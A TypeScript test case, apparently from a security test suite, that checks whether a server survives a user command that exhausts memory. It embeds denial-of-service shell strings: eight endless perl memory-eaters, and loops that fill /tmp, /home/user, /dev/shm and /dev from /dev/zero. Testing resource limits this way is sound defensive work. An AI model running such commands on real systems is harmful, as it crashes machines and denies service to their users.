import { readFileSync } from 'node:fs'
import type { Attack } from './attack.ts'
import { runCommand, startCommand, WITH_COMMANDS } from './commands.ts'

const EATERS = `sh -c 'for n in 1 2 3 4 5 6 7 8; do perl -e "my @all; push @all, q(x) x 10_000_000 while 1" & done; wait'`
const FILLERS = `sh -c 'for d in /tmp /home/user /dev/shm /dev; do cat /dev/zero > $d/x 2>/dev/null; done; du -cb /tmp /home /dev/shm | tail -1'`

export const attack: Attack = {
  row: 'A6',
  title: 'use up the machine’s memory by a command until the server is ended',
  server: WITH_COMMANDS,
  async run(server) {
    const ann = await server.user('ann', { commands: ['sh'] })
    const eaters = await startCommand(server, ann, EATERS)
    const { ended } = await eaters.over
    server.note(`eight processes that take memory without end: ${ended}`)
    const { said } = await runCommand(server, ann, FILLERS)
    const kept = Number(said.trim().split('\n').at(-1)?.split('\t')[0])
    server.note(`folders in memory took ${Math.round(kept / 1024 ** 2)} MiB`)
    const { said: score } = await runCommand(server, ann, `sh -c 'cat /proc/self/oom_score_adj'`)
    const own = readFileSync(`/proc/${server.pid}/oom_score_adj`, 'utf8')
    server.note(`when memory runs out: a command ${score.trim()}, the server ${own.trim()} (the higher goes first)`)
    const { status } = await server.visit('/health')
    server.note(`the server: ${status}`)
    const isHeld = ended !== 'exited' && kept < 1024 ** 3 && Number(score) > Number(own)
    return isHeld && status === 200 ? 'refused' : 'succeeded'
  },
}
